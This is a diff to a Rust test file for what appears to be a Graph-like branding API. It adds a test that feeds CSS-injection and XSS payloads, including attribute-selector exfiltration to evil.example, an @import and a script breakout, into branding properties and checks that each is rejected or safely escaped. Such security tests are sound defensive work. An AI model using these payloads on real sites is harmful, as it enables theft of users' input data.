@@ -125,11 +125,45 @@ async fn r22_what_is_no_picture_is_refused_and_strangers_pictures_are_not_read()
             (large.status, &large.json()["error"]["code"]),
             (StatusCode::PAYLOAD_TOO_LARGE, &json!("Request_EntityTooLarge"))
         );
-        let unknown = Request::put(format!("/graph/v1.0{path}")).body(Body::from(png())).unwrap();
-        assert_eq!(server.send(unknown).await.status, StatusCode::UNAUTHORIZED);
         let reader = server.administrator_who(&[("*", Role::GlobalReader)]).await;
-        assert_eq!(reader.put(&path, "image/png", png()).await.status, StatusCode::FORBIDDEN);
+        // Who may not send any is told so whatever they send: nobody has looked at it.
+        for sent in [png(), b"GIF89a".to_vec(), vec![0; 1024 * 1024]] {
+            let unknown = Request::put(format!("/graph/v1.0{path}")).body(Body::from(sent.clone())).unwrap();
+            assert_eq!(server.send(unknown).await.status, StatusCode::UNAUTHORIZED);
+            assert_eq!(reader.put(&path, "image/png", sent).await.status, StatusCode::FORBIDDEN);
+        }
         assert_eq!(server.count("SELECT COUNT(*) FROM pictures").await, 0);
+    })
+    .await;
+}
+
+/// Security R22: a look is a few colours, texts and addresses, each of which is nothing else. There is no style sheet to write.
+#[tokio::test]
+async fn r22_no_style_comes_in_by_any_property() {
+    const STOLEN: [&str; 6] = [
+        "input[value^=a]{background:url(https://evil.example/a)}",
+        "#3b5bdb;}input[value^=a]{background:url(//evil.example/a)}",
+        "@import url(https://evil.example/style.css)",
+        "url(https://evil.example/a)",
+        "expression(alert(1))",
+        "</style><script>alert(1)</script>",
+    ];
+    on_both(async |server: TestServer| {
+        let admin = server.administrator().await;
+        let path = format!("/organization/{}/branding", server.tenant);
+        for text in STOLEN {
+            for property in ["brandColor", "customPrivacyAndCookiesUrl", "customTermsOfUseUrl", "customCSS", "style"] {
+                let refused = admin.patch(&path, json!({ property: text })).await;
+                assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{property}: {text}");
+            }
+            // A name may be anything, and is a name.
+            assert_eq!(admin.patch(&path, json!({ "brandName": text })).await.status, StatusCode::NO_CONTENT);
+            let mut browser = server.browser();
+            server.application().await.asks(&mut browser).await;
+            assert!(browser.text().contains(text), "{text}");
+            let styles = browser.page.html.split("<style").skip(1).map(|rest| rest.split("</style>").next().unwrap());
+            assert!(styles.into_iter().all(|style| !style.contains("evil.example")), "{text}");
+        }
     })
     .await;
 }
